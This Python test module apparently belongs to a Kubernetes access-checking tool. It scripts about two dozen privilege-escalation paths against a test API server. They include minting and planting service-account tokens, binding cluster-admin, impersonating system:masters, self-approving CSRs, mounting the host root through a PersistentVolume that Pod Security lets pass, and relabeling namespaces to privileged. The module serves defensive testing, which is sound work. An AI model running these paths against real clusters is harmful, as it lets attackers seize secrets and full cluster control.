"""Each way walked to its end on a real API server, by a user who holds that way's rules alone."""

import asyncio
from base64 import b64decode, b64encode
from collections.abc import Awaitable, Callable
from datetime import timedelta
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from shipkeeper.kube.errors import ApiError, ForbiddenError, UnauthorizedError
from tests.access.robber import MERGE, Robber, deployment, minted, pod, soon, takes_prize
from tests.access.ways import CLIENT_SIGNER, GATHERED, NAMESPACE, STRICT

_RBAC = "/apis/rbac.authorization.k8s.io/v1"
_CSRS = "/apis/certificates.k8s.io/v1/certificatesigningrequests"
_ADMISSION = "/apis/admissionregistration.k8s.io/v1"
_HERE = f"/api/v1/namespaces/{NAMESPACE}"
_APPS = f"/apis/apps/v1/namespaces/{NAMESPACE}/deployments"
_STRATEGIC = "application/strategic-merge-patch+json"


async def list_secrets(robber: Robber) -> None:
    found = await robber.send("GET", "/api/v1/secrets")
    assert any(each["metadata"]["name"] == "prize" and each["data"] for each in found["items"])


async def watch_secrets(robber: Robber) -> None:
    path = "/api/v1/namespaces/kube-system/secrets"
    query = {"watch": "1", "resourceVersion": "0"}
    async with robber.own.stream(path, query, inactivity=timedelta(seconds=30)) as chunks:
        seen = b""
        async for chunk in chunks:
            seen += chunk
            if b'"prize"' in seen:
                return
    raise AssertionError("the watch did not show the Secret")


async def create_pods(robber: Robber) -> None:
    made = await robber.send("POST", f"{_HERE}/pods", pod("mine", serviceAccountName="mighty"))
    volumes = made["spec"]["volumes"]
    assert any("projected" in each for each in volumes), "no token is mounted"


async def create_deployments(robber: Robber) -> None:
    made = await robber.send("POST", _APPS, deployment("mine", "mighty"))
    assert made["spec"]["template"]["spec"]["serviceAccountName"] == "mighty"


async def patch_deployments(robber: Robber) -> None:
    change = {"spec": {"template": {"spec": {"serviceAccountName": "mighty"}}}}
    made = await robber.patch(f"{_APPS}/app", change)
    assert made["spec"]["template"]["spec"]["serviceAccountName"] == "mighty"


async def patch_pods(robber: Robber) -> None:
    change = {"spec": {"containers": [{"name": "main", "image": "example.com/mine"}]}}
    made = await robber.patch(f"{_HERE}/pods/target", change, _STRATEGIC)
    assert made["spec"]["containers"][0]["image"] == "example.com/mine"


async def debug(robber: Robber) -> None:
    container = {"name": "mine", "image": "example.com/mine"}
    change = {"spec": {"ephemeralContainers": [container]}}
    made = await robber.patch(f"{_HERE}/pods/target/ephemeralcontainers", change, _STRATEGIC)
    assert made["spec"]["ephemeralContainers"][0]["name"] == "mine"


async def is_let_through(robber: Robber, method: str, path: str) -> None:
    """There is no kubelet behind it: let through is whoever gets as far as looking for one."""
    try:
        await robber.send(method, path, timeout=timedelta(seconds=20))
    except (ForbiddenError, UnauthorizedError):
        raise
    except ApiError:
        return


async def enter(robber: Robber) -> None:
    await is_let_through(robber, "POST", f"{_HERE}/pods/target/exec?command=id&stdout=1")


async def node_proxy(robber: Robber) -> None:
    await is_let_through(robber, "GET", "/api/v1/nodes/ways-node/proxy/pods")


async def tokens(robber: Robber) -> None:
    await takes_prize(await robber.with_token(await minted(robber, NAMESPACE, "mighty")))


async def plant(robber: Robber) -> None:
    annotations = {"kubernetes.io/service-account.name": "mighty"}
    secret = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "planted", "annotations": annotations},
        "type": "kubernetes.io/service-account-token",
    }
    await robber.send("POST", f"{_HERE}/secrets", secret)
    token = ""
    async with asyncio.timeout(60):
        while not token:
            found = await robber.send("GET", f"{_HERE}/secrets/planted")
            token = found.get("data", {}).get("token", "")
            await asyncio.sleep(0.1)
    await takes_prize(await robber.with_token(b64decode(token).decode()))


async def bind(robber: Robber) -> None:
    group = "rbac.authorization.k8s.io"
    binding = {
        "apiVersion": f"{group}/v1",
        "kind": "ClusterRoleBinding",
        "metadata": {"name": f"{robber.user}-gain"},
        "roleRef": {"apiGroup": group, "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"apiGroup": group, "kind": "User", "name": robber.user}],
    }
    await robber.send("POST", f"{_RBAC}/clusterrolebindings", binding)
    await soon(robber.sees_prize)


async def escalate(robber: Robber) -> None:
    everything = {"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}
    await robber.patch(f"{_RBAC}/clusterroles/{robber.user}", {"rules": [everything]})
    await soon(robber.sees_prize)


async def impersonate(robber: Robber) -> None:
    other = await robber.as_other("somebody", "system:masters")
    await other.send("GET", "/api/v1/namespaces/kube-system/secrets/prize")


async def impersonate_account(robber: Robber) -> None:
    other = await robber.as_other(f"system:serviceaccount:{NAMESPACE}:mighty")
    await other.send("GET", "/api/v1/namespaces/kube-system/secrets/prize")


async def constrained(robber: Robber) -> None:
    other = await robber.as_other("boss")
    await other.send("GET", "/api/v1/namespaces/kube-system/secrets")


async def approve(robber: Robber) -> None:
    name = f"{robber.user}-csr"
    await robber.send("POST", _CSRS, csr(name, "boss"))
    condition = {"type": "Approved", "status": "True", "reason": "Mine", "message": ""}
    body = {**csr(name, "boss"), "status": {"conditions": [condition]}}
    made = await robber.send("PUT", f"{_CSRS}/{name}/approval", body)
    assert made["status"]["conditions"][0]["type"] == "Approved"


async def sign(robber: Robber) -> None:
    name = f"{robber.user}-csr"
    await robber.admin.send("POST", _CSRS, body=csr(name, "somebody"))
    certificate = b64encode(robber.sandbox.ca.read_bytes()).decode()
    made = await robber.patch(f"{_CSRS}/{name}/status", {"status": {"certificate": certificate}})
    assert made["status"]["certificate"]


def csr(name: str, user: str) -> dict[str, Any]:
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, user)])
    signed = (
        x509.CertificateSigningRequestBuilder().subject_name(subject).sign(key, hashes.SHA256())
    )
    request = b64encode(signed.public_bytes(serialization.Encoding.PEM)).decode()
    return {
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {"name": name},
        "spec": {
            "request": request,
            "signerName": CLIENT_SIGNER,
            "usages": ["digital signature", "key encipherment", "client auth"],
        },
    }


def webhook(kind: str, name: str) -> dict[str, Any]:
    """One that means no object at all: it is enough that it may be set."""
    each = {
        "name": "robbery.example.com",
        "clientConfig": {"url": "https://127.0.0.1:1/"},
        "rules": [
            {
                "apiGroups": ["robbery.example.com"],
                "apiVersions": ["v1"],
                "operations": ["CREATE"],
                "resources": ["nothing"],
            }
        ],
        "failurePolicy": "Ignore",
        "sideEffects": "None",
        "admissionReviewVersions": ["v1"],
    }
    return {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": kind,
        "metadata": {"name": name},
        "webhooks": [each],
    }


async def mutate(robber: Robber) -> None:
    body = webhook("MutatingWebhookConfiguration", robber.user)
    made = await robber.send("POST", f"{_ADMISSION}/mutatingwebhookconfigurations", body)
    assert made["webhooks"]


async def watchful(robber: Robber) -> None:
    body = webhook("ValidatingWebhookConfiguration", robber.user)
    made = await robber.send("POST", f"{_ADMISSION}/validatingwebhookconfigurations", body)
    assert made["webhooks"]


async def volume(robber: Robber) -> None:
    size = {"storage": "1Gi"}
    spec: dict[str, Any] = {
        "capacity": size,
        "accessModes": ["ReadWriteOnce"],
        "hostPath": {"path": "/"},
        "storageClassName": "",
    }
    disk = {"apiVersion": "v1", "kind": "PersistentVolume", "metadata": {"name": robber.user}}
    await robber.send("POST", "/api/v1/persistentvolumes", {**disk, "spec": spec})
    claim = {
        "apiVersion": "v1",
        "kind": "PersistentVolumeClaim",
        "metadata": {"name": "disk"},
        "spec": {
            "accessModes": ["ReadWriteOnce"],
            "resources": {"requests": size},
            "volumeName": robber.user,
            "storageClassName": "",
        },
    }
    strict = f"/api/v1/namespaces/{STRICT}"
    await robber.send("POST", f"{strict}/persistentvolumeclaims", claim)
    mount = {"name": "disk", "persistentVolumeClaim": {"claimName": "disk"}}
    secure = {
        "allowPrivilegeEscalation": False,
        "runAsNonRoot": True,
        "runAsUser": 1000,
        "capabilities": {"drop": ["ALL"]},
        "seccompProfile": {"type": "RuntimeDefault"},
    }
    # Pod Security, which forbids host paths here, lets it pass.
    body = pod("disk", volumes=[mount], container={"securityContext": secure})
    await robber.send("POST", f"{strict}/pods", body)


async def relabel(robber: Robber) -> None:
    strict = f"/api/v1/namespaces/{STRICT}"
    level = {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "restricted"}}}
    await robber.admin.send("PATCH", strict, body=level, content_type=MERGE)
    root = pod(f"root-{robber.user}", container={"securityContext": {"privileged": True}})

    async def refused() -> None:
        try:
            await robber.send("POST", f"{strict}/pods", root)
        except ForbiddenError as error:
            if "PodSecurity" not in str(error):
                raise
        else:
            await robber.admin.send("DELETE", f"{strict}/pods/{root['metadata']['name']}")
            raise LookupError("the label is not seen yet")

    # As it stands, Pod Security does not take it.
    await soon(refused)
    level["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] = "privileged"
    await robber.patch(strict, level)
    await soon(lambda: robber.send("POST", f"{strict}/pods", root))


async def join(robber: Robber) -> None:
    """What the user has is gathered by label; the user adds a role with that label."""
    with pytest.raises(ForbiddenError):
        await robber.sees_prize()
    everything = {"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}
    role = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRole",
        "metadata": {"name": f"{robber.user}-gain", "labels": GATHERED},
        "rules": [everything],
    }
    await robber.send("POST", f"{_RBAC}/clusterroles", role)
    await soon(robber.sees_prize)


async def revive(robber: Robber) -> None:
    """A binding outlived its ServiceAccount."""
    account = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "ghost"}}
    await robber.send("POST", f"/api/v1/namespaces/{STRICT}/serviceaccounts", account)
    await takes_prize(await robber.with_token(await minted(robber, STRICT, "ghost")))


async def steal(robber: Robber) -> None:
    made = await robber.patch("/api/v1/nodes/ways-node", {"spec": {"unschedulable": True}})
    assert made["spec"]["unschedulable"] is True
    eviction = {
        "apiVersion": "policy/v1",
        "kind": "Eviction",
        "metadata": {"name": "target", "namespace": NAMESPACE},
    }
    await robber.send("POST", f"{_HERE}/pods/target/eviction", eviction)


ROBBERIES: dict[str, Callable[[Robber], Awaitable[None]]] = {
    "list-secrets": list_secrets,
    "watch-secrets": watch_secrets,
    "create-pods": create_pods,
    "create-deployments": create_deployments,
    "patch-deployments": patch_deployments,
    "patch-pods": patch_pods,
    "exec": enter,
    "debug": debug,
    "node-proxy": node_proxy,
    "tokens": tokens,
    "one-token": tokens,
    "plant": plant,
    "bind": bind,
    "bind-one": bind,
    "escalate": escalate,
    "impersonate": impersonate,
    "impersonate-account": impersonate_account,
    "constrained": constrained,
    "approve": approve,
    "sign": sign,
    "mutate": mutate,
    "watchful": watchful,
    "volume": volume,
    "relabel": relabel,
    "relabel-inside": relabel,
    "join": join,
    "revive": revive,
    "steal": steal,
}
